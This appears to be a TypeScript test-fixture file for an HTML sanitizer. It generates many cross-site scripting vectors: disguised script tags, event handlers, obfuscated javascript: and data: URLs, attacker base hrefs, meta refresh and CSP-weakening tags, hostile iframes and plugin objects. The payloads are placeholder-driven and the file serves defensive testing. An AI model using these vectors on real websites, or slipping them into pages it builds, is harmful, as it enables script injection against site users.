// Web pages that try to run code: script elements in every disguise, event handlers on every kind of
// element (some wrapped around the very words that will be highlighted), and javascript: and data: URLs in
// every attribute that takes a URL.
import { aroundWords, type HtmlCaseMaker } from './html-page';

export const SCRIPT_CASES: HtmlCaseMaker[] = [
  (p) => ({
    category: 'script',
    description: 'inline script in head',
    head: `<script>${p.js('head')}</script>`,
  }),
  (p) => ({
    category: 'script',
    description: 'inline script before the sentence',
    before: `<script>${p.js('body')}</script>`,
  }),
  (p) => ({
    category: 'script',
    description: 'script inside the sentence',
    sentence: aroundWords('4 May 2022', (w) => `${w}<script>${p.js('inside')}</script>`),
  }),
  (p) => ({
    category: 'script',
    description: 'external script from the attacker',
    head: `<script src="${p.url('script-src')}"></script><script defer src="${p.url('defer')}"></script>`,
  }),
  (p) => ({
    category: 'script',
    description: 'module script and import map',
    head:
      `<script type="importmap">{"imports":{"x":"${p.url('importmap')}"}}</script>` +
      `<script type="module">import '${p.url('module')}';${p.js('module')}</script>`,
  }),
  (p) => ({
    category: 'script',
    description: 'upper-case and split script tags',
    before: `<SCRIPT>${p.js('upper')}</SCRIPT><scr<script>ipt>${p.js('split')}</script>`,
    // "<scr<script>" is an element named scr<script; what follows it is text, in a browser too.
    payloadAsText: true,
  }),
  (p) => ({
    category: 'script',
    description: 'script with slash and junk attributes',
    before: `<script/xss src="${p.url('slash')}"></script><script ~~~>${p.js('junk')}</script>`,
  }),
  (p) => ({
    category: 'script',
    description: 'script in a table and after the body',
    before: `<table><tr><td>Figures follow.<script>${p.js('table')}</script></td></tr></table>`,
    trailer: `<script>${p.js('trailer')}</script>`,
  }),
  (p) => ({
    category: 'script',
    description: 'script with an HTML comment opener',
    before: `<script><!--\n${p.js('comment')}\n//--></script>`,
  }),
  (p) => ({
    category: 'script',
    description: 'hostile JSON-LD and a script in the title element',
    head:
      `<script type="application/ld+json">{"@type":"NewsArticle","headline":"Harbour report",` +
      `"author":{"name":"<img src=x onerror=${p.js('jsonld')}>"},"__proto__":{"polluted":1}}</script>`,
  }),
];

const HANDLER_ELEMENTS: [string, (p: Parameters<HtmlCaseMaker>[0]) => string][] = [
  ['img onerror', (p) => `<img src="x" onerror="${p.js('img-onerror')}">`],
  ['img onload', (p) => `<img src="${p.url('img-onload')}" onload="${p.js('img-onload')}">`],
  ['input autofocus onfocus', (p) => `<input autofocus onfocus="${p.js('onfocus')}">`],
  [
    'details ontoggle',
    (p) => `<details open ontoggle="${p.js('ontoggle')}"><summary>Notes</summary></details>`,
  ],
  ['video source onerror', (p) => `<video><source onerror="${p.js('video')}"></video>`],
  ['audio onerror', (p) => `<audio src="x" onerror="${p.js('audio')}"></audio>`],
  ['marquee onstart', (p) => `<marquee onstart="${p.js('marquee')}">Breaking</marquee>`],
  ['iframe onload', (p) => `<iframe onload="${p.js('iframe-onload')}"></iframe>`],
  ['object onerror', (p) => `<object data="x" onerror="${p.js('object')}"></object>`],
  ['style onload', (p) => `<style onload="${p.js('style')}"></style>`],
  ['link onload', (p) => `<link rel="stylesheet" href="data:text/css," onload="${p.js('link')}">`],
  ['select autofocus onfocus', (p) => `<select autofocus onfocus="${p.js('select')}"></select>`],
  ['textarea onfocus', (p) => `<textarea autofocus onfocus="${p.js('textarea')}"></textarea>`],
  [
    'keygen and isindex',
    (p) =>
      `<keygen autofocus onfocus="${p.js('keygen')}"><isindex type=image src=1 onerror=${p.js('isindex')}>`,
  ],
  [
    'animation handler',
    (p) =>
      `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${p.js('anim')}">.</b>`,
  ],
  [
    'transition and pointer handlers',
    (p) =>
      `<b style="transition:color 1s" ontransitionend="${p.js('trans')}" onpointerenter="${p.js('pointer')}">.</b>`,
  ],
  ['body onload and onpageshow', () => ''],
  ['svg onload inline', (p) => `<svg onload="${p.js('svg-onload')}"></svg>`],
  ['form oninput', (p) => `<form oninput="${p.js('oninput')}"><input value="x"></form>`],
  [
    'unquoted and backtick handlers',
    (p) => `<img src=x onerror=${p.js('unquoted')}><img src=\`x\` onerror=\`${p.js('backtick')}\`>`,
  ],
];

export const HANDLER_CASES: HtmlCaseMaker[] = [
  ...HANDLER_ELEMENTS.map(([description, markup]): HtmlCaseMaker => (p) => ({
    category: 'event-handler',
    description,
    before: markup(p),
    ...(description.startsWith('body')
      ? { bodyAttributes: `onload="${p.js('body-onload')}" onpageshow="${p.js('pageshow')}"` }
      : {}),
  })),
  (p) => ({
    category: 'event-handler',
    description: 'mouse handlers around the highlighted words',
    sentence: aroundWords(
      'inquiry reported',
      (w) =>
        `<span onmouseover="${p.js('over')}" onmousedown="${p.js('down')}" onmouseup="${p.js('up')}">${w}</span>`,
    ),
  }),
  (p) => ({
    category: 'event-handler',
    description: 'selection and copy handlers on the sentence',
    sentence: aroundWords(
      'cranes stood idle',
      (w) =>
        `<b onselectstart="${p.js('selectstart')}" oncopy="${p.js('copy')}" onclick="${p.js('click')}">${w}</b>`,
    ),
  }),
  (p) => ({
    category: 'event-handler',
    description: 'key handlers and contenteditable',
    bodyAttributes: `onkeydown="${p.js('keydown')}" onkeyup="${p.js('keyup')}"`,
    before: `<div contenteditable onfocus="${p.js('editable')}" autofocus>Editable note.</div>`,
  }),
];

export const JAVASCRIPT_URL_CASES: HtmlCaseMaker[] = [
  (p) => ({
    category: 'javascript-url',
    description: 'javascript link on the sentence',
    sentence: aroundWords('harbour inquiry', (w) => `<a href="${p.jsUrl('a-href')}">${w}</a>`),
  }),
  (p) => ({
    category: 'javascript-url',
    description: 'obfuscated javascript links',
    before:
      `<p><a href="jav&#x09;ascript:${p.js('tab')}">Tab</a> <a href="JaVaScRiPt:${p.js('case')}">Case</a> ` +
      `<a href=" &#14; javascript:${p.js('space')}">Space</a> ` +
      `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${p.js('entities')}">Entities</a></p>`,
  }),
  (p) => ({
    category: 'javascript-url',
    description: 'javascript iframe and frame sources',
    before: `<iframe src="${p.jsUrl('iframe')}"></iframe><iframe src="javascript:'<script>${p.js('iframe-doc')}</script>'"></iframe>`,
  }),
  (p) => ({
    category: 'javascript-url',
    description: 'javascript form action and formaction',
    before:
      `<form action="${p.jsUrl('action')}"><button>Go</button>` +
      `<button formaction="${p.jsUrl('formaction')}">Send</button></form>`,
  }),
  (p) => ({
    category: 'javascript-url',
    description: 'javascript in object, embed and image sources',
    before: `<object data="${p.jsUrl('object')}"></object><embed src="${p.jsUrl('embed')}"><img src="${p.jsUrl('img')}">`,
  }),
  (p) => ({
    category: 'javascript-url',
    description: 'javascript in area, math and svg links',
    before:
      `<map name="m"><area shape="rect" coords="0,0,9,9" href="${p.jsUrl('area')}"></map>` +
      `<math><mi xlink:href="${p.jsUrl('math')}" href="${p.jsUrl('math-href')}">x</mi></math>` +
      `<svg><a xlink:href="${p.jsUrl('svg-a')}"><text x="0" y="15">Map</text></a></svg>`,
  }),
  (p) => ({
    category: 'javascript-url',
    description: 'vbscript and livescript links',
    before: `<p><a href="vbscript:msgbox(1)">Old</a> <a href="livescript:${p.js('live')}">Older</a></p>`,
  }),
  (p) => ({
    category: 'javascript-url',
    description: 'javascript link with a target and ping',
    sentence: aroundWords(
      'the cranes',
      (w) => `<a href="${p.jsUrl('target')}" target="_blank" ping="${p.url('ping')}">${w}</a>`,
    ),
  }),
];

export const DATA_URL_CASES: HtmlCaseMaker[] = [
  (p) => ({
    category: 'data-url',
    description: 'data HTML link',
    sentence: aroundWords('4 May 2022', (w) => `<a href="${p.dataHtml('a-data')}">${w}</a>`),
  }),
  (p) => ({
    category: 'data-url',
    description: 'data HTML iframe and object',
    before: `<iframe src="${p.dataHtml('iframe-data')}"></iframe><object data="${p.dataHtml('object-data')}" type="text/html"></object>`,
  }),
  (p) => ({
    category: 'data-url',
    description: 'data SVG image and embed',
    before: `<img src="${p.dataSvg('img-svg')}"><embed src="${p.dataSvg('embed-svg')}" type="image/svg+xml">`,
  }),
  (p) => ({
    category: 'data-url',
    description: 'data script source',
    head: `<script src="data:text/javascript;base64,${Buffer.from(p.js('script-data')).toString('base64')}"></script>`,
  }),
  (p) => ({
    category: 'data-url',
    description: 'data stylesheet importing from the attacker',
    head: `<link rel="stylesheet" href="data:text/css,@import url(${encodeURIComponent(p.url('css-import'))});">`,
  }),
  (p) => ({
    category: 'data-url',
    description: 'plain data HTML without base64',
    before: `<iframe src="data:text/html,%3Cscript%3E${encodeURIComponent(p.js('plain'))}%3C/script%3E"></iframe>`,
  }),
  (p) => ({
    category: 'data-url',
    description: 'data URL with a misleading type',
    before: `<a href="data:image/png;text/html;base64,${Buffer.from(`<script>${p.js('mime')}</script>`).toString('base64')}">Image</a>`,
  }),
];

export const BASE_CASES: HtmlCaseMaker[] = [
  (p) => ({
    category: 'base',
    description: 'base href to the attacker with relative resources',
    head: `<base href="${p.url('base')}/">`,
    before: `<img src="relative.png"><script src="relative.js"></script><link rel="stylesheet" href="relative.css">`,
    sentence: aroundWords('harbour inquiry', (w) => `<a href="relative-link">${w}</a>`),
  }),
  (p) => ({
    category: 'base',
    description: 'base href javascript and base target',
    head: `<base href="${p.jsUrl('base-js')}" target="_top">`,
    before: `<p><a href="x">Relative link</a></p>`,
  }),
  (p) => ({
    category: 'base',
    description: 'base element in the body',
    before: `<base href="${p.url('late-base')}/"><img src="late.png">`,
  }),
];

export const META_REFRESH_CASES: HtmlCaseMaker[] = [
  (p) => ({
    category: 'meta-refresh',
    description: 'meta refresh to the attacker',
    head: `<meta http-equiv="refresh" content="0;url=${p.url('refresh')}">`,
  }),
  (p) => ({
    category: 'meta-refresh',
    description: 'meta refresh to javascript and data',
    head:
      `<meta http-equiv="refresh" content="0;url=${p.jsUrl('refresh-js')}">` +
      `<meta http-equiv="refresh" content="1; URL='${p.dataHtml('refresh-data')}'">`,
  }),
  (p) => ({
    category: 'meta-refresh',
    description: 'meta policy weakening and cookies',
    head:
      `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">` +
      `<meta http-equiv="set-cookie" content="pwned=1"><meta http-equiv="Link" content="<${p.url('link-header')}>; rel=preload; as=script">`,
    before: `<script>${p.js('after-meta-csp')}</script>`,
  }),
  (p) => ({
    category: 'meta-refresh',
    description: 'meta refresh in the body',
    before: `<meta http-equiv="refresh" content="0;url=${p.url('body-refresh')}">`,
  }),
];

export const IFRAME_CASES: HtmlCaseMaker[] = [
  (p) => ({
    category: 'iframe',
    description: 'iframe from the attacker',
    before: `<iframe src="${p.url('iframe')}"></iframe>`,
  }),
  (p) => ({
    category: 'iframe',
    description: 'iframe srcdoc with a script',
    before: `<iframe srcdoc="&lt;script&gt;${p.js('srcdoc')}&lt;/script&gt;&lt;img src=x onerror=${p.js('srcdoc-img')}&gt;"></iframe>`,
  }),
  (p) => ({
    category: 'iframe',
    description: 'sandboxed iframe allowing scripts',
    before: `<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="&lt;script&gt;${p.js('sandbox')};top.location=\`${p.url('top-nav')}\`&lt;/script&gt;"></iframe>`,
  }),
  (p) => ({
    category: 'iframe',
    description: 'frameset, portal and fenced frame',
    before:
      `<portal src="${p.url('portal')}"></portal><fencedframe src="${p.url('fenced')}"></fencedframe>` +
      `<frameset><frame src="${p.url('frame')}"></frameset>`,
  }),
  (p) => ({
    category: 'iframe',
    description: 'iframe around the sentence',
    sentence: aroundWords(
      'stood idle',
      (w) => `${w}<iframe src="${p.url('inline-iframe')}" width="1"></iframe>`,
    ),
  }),
];

export const OBJECT_CASES: HtmlCaseMaker[] = [
  (p) => ({
    category: 'object',
    description: 'object with a plugin movie',
    before: `<object type="application/x-shockwave-flash" data="${p.url('swf')}"><param name="movie" value="${p.url('param')}"><param name="allowScriptAccess" value="always"></object>`,
  }),
  (p) => ({
    category: 'object',
    description: 'embed from the attacker',
    before: `<embed src="${p.url('embed')}" type="application/pdf">`,
  }),
  (p) => ({
    category: 'object',
    description: 'applet and object codebase',
    before: `<applet code="Exploit.class" codebase="${p.url('applet')}"></applet><object classid="clsid:0" codebase="${p.url('codebase')}"></object>`,
  }),
  (p) => ({
    category: 'object',
    description: 'object with HTML fallback content',
    before: `<object data="${p.url('fallback')}"><img src="x" onerror="${p.js('fallback')}">Fallback text.</object>`,
  }),
];
